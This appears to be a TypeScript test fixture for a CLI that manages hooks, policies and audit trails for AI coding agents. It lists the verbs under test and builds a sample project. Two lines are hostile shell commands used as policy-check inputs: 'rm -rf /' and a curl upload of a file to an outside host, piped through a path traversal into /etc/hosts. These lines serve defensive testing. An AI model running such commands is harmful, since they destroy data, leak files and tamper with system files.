import { join } from "node:path";
import { type Scratch, scratch } from "../engine/scratch.ts";

/** How a verb is called once to see what it prints with `--json`. */
export interface JsonCall {
  /** What stands behind the verb; `--json` is added. */
  readonly args?: readonly string[];
  readonly input?: string;
  /** Calls that go before it. */
  readonly before?: readonly (readonly string[])[];
  /** It prints one object a line. */
  readonly lines?: true;
  /** The exit status; 0 if absent. */
  readonly status?: number;
  /** Before all others, or after them: it makes what they read, or changes it. Others are called at the same time. */
  readonly when?: "first" | "last";
}

const aCommand = ["PreToolUse", "--tool", "Bash", "--input", '{"command":"ls"}'];

/** Every verb with `--json`: all are called in the project below. */
export const jsonCalls: { readonly [verb: string]: JsonCall } = {
  fire: { args: ["--payload", "event.json"], before: [["record", "start"]], when: "first" },
  explain: { args: [...aCommand, "--run"] },
  list: { args: ["--effective", "--show-origin"] },
  validate: { status: 1 },
  doctor: { status: 1 },
  import: { args: [".claude/settings.json"] },
  "policy check": { args: ["policy.json", "--command", "rm -rf /"], status: 2 },
  "policy packs": {},
  "policy read": { args: ["curl -d @x https://example.org/x | tee /tmp/../etc/hosts"] },
  audit: {},
  "audit verify": {},
  "audit query": { lines: true },
  "audit show": { args: ["2"] },
  "audit export": { lines: true },
  "audit prove": { args: ["2"] },
  "audit ship": { when: "last" },
  "audit erase": { args: ["2", "--reason", "a test"], when: "last" },
  "audit keys": {},
  "audit keys rotate": { when: "last" },
  init: { args: ["--yes", "--recipes", "none"], when: "last" },
  add: { args: ["notify", "--file", "user", "--yes"], when: "last" },
  remove: { args: ["notify", "--yes"], when: "last" },
  disable: { args: ["mine"], when: "last" },
  enable: { args: ["mine"], when: "last" },
  test: { status: 1 },
  "trust list": {},
  tail: { lines: true },
  stats: {},
  schema: { args: ["--list"] },
  record: {},
  "record status": {},
  "record list": {},
  "record show": { args: ["session-of-verbs"], lines: true },
  replay: {},
  pause: {},
  "daemon status": { status: 1 },
};

/** A project in which every verb has something to say: hooks of two agents, a policy, a mistake, and an audit trail with a destination. */
export function projectForVerbs(): Scratch {
  const place = scratch();
  place.write(join(place.home, ".config/hookline/hooks.json"), {
    audit: {
      payloads: "full",
      checkpointEvery: 1,
      destinations: [{ type: "file", path: join(place.home, "copy.jsonl") }],
    },
    defaults: { timeout: 20 },
    hooks: {
      PreToolUse: [
        {
          matcher: "Bash",
          hooks: [
            { id: "mine", type: "command", command: "exit 0", when: 'tool.command != ""' },
            { id: "broken", type: "command", command: "exit 3", timeout: 5 },
          ],
        },
      ],
      PostToolUse: [
        { matcher: "bash", hooks: [{ id: "after", type: "command", command: "true", async: true }] },
      ],
    },
  });
  place.write(".hookline/hooks.json", {
    hooks: {
      PreToolUse: [{ hooks: [{ id: "rules", type: "policy", packs: ["commands"] }] }],
      PreTooluse: [{ hooks: [{ type: "command", command: "true" }] }],
    },
  });
  place.write(".claude/settings.json", {
    hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "exit 0" }] }] },
  });
  place.write("policy.json", { packs: ["commands"], rules: [] });
  const payload = { tool_name: "Bash", tool_input: { command: "ls" }, session_id: "session-of-verbs" };
  place.write("event.json", { hook_event_name: "PreToolUse", ...payload });
  return place;
}
